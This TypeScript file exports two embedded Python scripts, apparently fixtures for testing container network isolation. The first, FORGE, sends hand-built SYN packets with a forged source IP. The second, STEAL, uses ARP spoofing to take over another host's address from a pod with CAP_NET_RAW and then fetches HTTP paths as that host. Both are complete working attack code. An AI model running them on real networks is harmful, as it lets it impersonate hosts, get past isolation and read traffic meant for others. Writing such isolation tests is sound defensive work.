/**
 * Program of Python, with the arguments source, target and port: sends a SYN with a source that is not its
 * own, and prints the number of answers that it saw.
 */
export const FORGE = `
import socket, struct, sys, time
source, target, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
pack = lambda check: struct.pack('!HHLLBBHHH', 45678, port, 1, 0, 5 << 4, 2, 65535, check, 0)
ends = socket.inet_aton(source) + socket.inet_aton(target)
segment = pack(checksum(ends + struct.pack('!BBH', 0, 6, 20) + pack(0)))
header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 1, 0, 64, 6, 0, ends[:4], ends[4:])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
answers = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
answers.settimeout(0.2)
for _ in range(3):
    raw.sendto(header + segment, (target, 0))
seen, end = 0, time.monotonic() + 1
while time.monotonic() < end:
    try:
        if answers.recv(65535)[22:24] == struct.pack('!H', 45678): seen += 1
    except TimeoutError: pass
print(seen)
`;

/**
 * Program of Python, with the arguments source, target and path: says by ARP that an address is here, as a
 * pod or container with CAP_NET_RAW can, asks from it at once, and prints the answers.
 */
export const STEAL = `
import http.client, socket, struct, sys
source, target, path = sys.argv[1:]
mac = open('/sys/class/net/eth0/address').read().strip()
def announce(operation):
    own = bytes.fromhex(mac.replace(':', ''))
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(('eth0', 0))
    arp = struct.pack('!HHBBH', 1, 0x0800, 6, 4, operation) + own + socket.inet_aton(source) + b'\\xff' * 6 + socket.inet_aton(source)
    link.send(b'\\xff' * 6 + own + struct.pack('!H', 0x0806) + arp)
for _ in range(10):
    announce(1)
    announce(2)
    connection = http.client.HTTPConnection(target, timeout=0.5, source_address=(source, 0))
    try:
        connection.request('GET', path)
        connection.sock.settimeout(5)
        answer = connection.getresponse()
        print(answer.status, answer.read().decode())
    except OSError as thrown:
        print('nothing', thrown)
`;
